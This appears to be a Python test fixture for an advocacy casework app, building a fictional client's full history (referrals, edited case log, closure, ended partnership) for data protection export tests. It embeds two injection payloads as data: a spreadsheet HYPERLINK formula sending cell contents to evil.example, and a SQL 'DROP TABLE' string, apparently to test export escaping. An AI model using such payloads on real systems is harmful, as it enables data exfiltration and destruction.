"""People with a whole history behind them, for the data protection tests: referrals,
a case with its log (one entry edited), an issue, the outcome answers, the case closed,
and a citizen advocacy partnership that has ended."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, timedelta

from advocacy_desk.domain.casework import ActivityDetails, Closure, Feedback
from advocacy_desk.domain.people import PersonDetails
from advocacy_desk.domain.referrals import ReferralDetails
from advocacy_desk.domain.vocabulary import OUTCOME_QUESTION
from advocacy_desk.services import Services
from tests.citizen_data import add_partner, add_volunteer
from tests.conftest import TODAY

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
SQL = "'; DROP TABLE person; --"
FIRST_NOTE = "Met Jane at home; she wants to stay near her sister"
EDITED_NOTE = "Met Jane at home with her sister present"
ISSUE = "Wants to move to a flat near her sister in Chelmsford"
DECLINED_REASON = "Jane's neighbour made the referral without asking her"


@dataclass(frozen=True)
class Record:
    person_id: int
    person_ref: str
    case_id: int
    activity_id: int


def advocate(services: Services, kind: str = "care_act") -> int:
    staff = {s.username: s for s in services.staff.list()}
    dee = staff.get("dee") or services.staff.add("dee", "Dee Okafor", advocacy_types=[kind])
    if kind not in dee.advocacy_types:
        services.staff.set_caseload(dee.id, dee.capacity, [*dee.advocacy_types, kind])
    return dee.id


def closed_case(
    services: Services,
    person_id: int,
    opened: date,
    closed: date,
    note: str = "visited at home",
    kind: str = "care_act",
    notes: str = "",
) -> int:
    """A referral for the person, allocated on ``opened`` and closed on ``closed``, with
    one visit logged; returns the case id."""
    referral = services.referrals.create(
        person_id, ReferralDetails(opened - timedelta(days=3), "self", kind, notes=notes)
    )
    ref = services.waiting_list.allocate(referral.id, advocate(services, kind), on=opened)
    case_id = next(r.case_id for r in services.casework.caseload() if r.case_ref == ref)
    services.casework.log_activity(case_id, ActivityDetails(opened, "visit", 60, 15, note))
    answers = dict.fromkeys(OUTCOME_QUESTION.codes, "yes")
    services.casework.close(case_id, Closure("resolved", closed, Feedback(answers)))
    return case_id


def person(services: Services, given: str = "Jane", family: str = "Partridge",
           born: date | None = date(1958, 5, 5), postcode: str = "CM2 0AA") -> int:  # fmt: skip
    details = PersonDetails(given, family, born, sex="female", ethnicity="white_british",
                            first_language="Welsh", communication_needs="Uses a hearing loop",
                            postcode=postcode, local_authority="Essex County Council")  # fmt: skip
    return services.people.create(details, allow_duplicate=True).id


def full_record(services: Services) -> Record:
    """Jane Partridge, P000001: everything a subject access export has to show."""
    add_volunteer(services, "V000001", given_name="Vera", family_name="Volunteer")
    person_id = add_partner(services, "Jane", other_requirement="Someone who likes dogs")
    services.people.update(
        person_id,
        PersonDetails("Jane", "Partridge", date(1958, 5, 5), sex="female",
                      ethnicity="white_british", first_language="Welsh",
                      communication_needs="Uses a hearing loop", postcode="CM2 0AA",
                      local_authority="Essex County Council"),
    )  # fmt: skip
    partnership = services.citizen.accept("V000001", "P000001")
    services.citizen.end(partnership, "moved")
    declined = services.referrals.create(
        person_id, ReferralDetails(TODAY - timedelta(days=200), "other", "nhs_complaints")
    )
    services.waiting_list.decline(declined.id, DECLINED_REASON, on=TODAY - timedelta(days=190))
    opened = TODAY - timedelta(days=60)
    referral = services.referrals.create(
        person_id,
        ReferralDetails(opened - timedelta(days=5), "self", "care_act",
                        notes=f"Referral notes. {FORMULA} {SQL}"),
    )  # fmt: skip
    ref = services.waiting_list.allocate(referral.id, advocate(services), on=opened)
    case_id = next(r.case_id for r in services.casework.caseload() if r.case_ref == ref)
    logged = services.casework.log_activity(
        case_id, ActivityDetails(opened + timedelta(days=2), "visit", 60, 20, FIRST_NOTE)
    )
    services.casework.edit_activity(
        logged.id, ActivityDetails(opened + timedelta(days=2), "visit", 75, 20, EDITED_NOTE)
    )
    services.casework.log_activity(
        case_id, ActivityDetails(opened + timedelta(days=9), "phone", 15, 0, f"{FORMULA}\n{SQL}")
    )
    issue = services.casework.add_issue(case_id, "accommodation", ISSUE)
    services.casework.set_outcome(issue.id, "achieved", opened + timedelta(days=20))
    answers = dict.fromkeys(OUTCOME_QUESTION.codes, "yes")
    services.casework.close(case_id, Closure("resolved", opened + timedelta(days=30),
                                             Feedback(answers)))  # fmt: skip
    services.people.get(person_id)  # a look, for the audit trail
    services.casework.case(case_id)
    return Record(person_id, "P000001", case_id, logged.id)
